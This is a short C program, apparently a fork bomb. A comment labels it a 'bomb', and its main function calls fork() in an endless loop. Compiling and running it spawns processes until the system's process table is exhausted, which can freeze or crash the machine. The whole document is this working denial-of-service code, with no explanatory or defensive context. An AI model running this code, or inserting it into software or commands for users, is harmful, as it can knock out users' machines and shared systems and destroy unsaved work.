// bomb: forks without end, whatever the kernel says.
#include <unistd.h>

int main(void) {
	for (;;)
		fork();
}
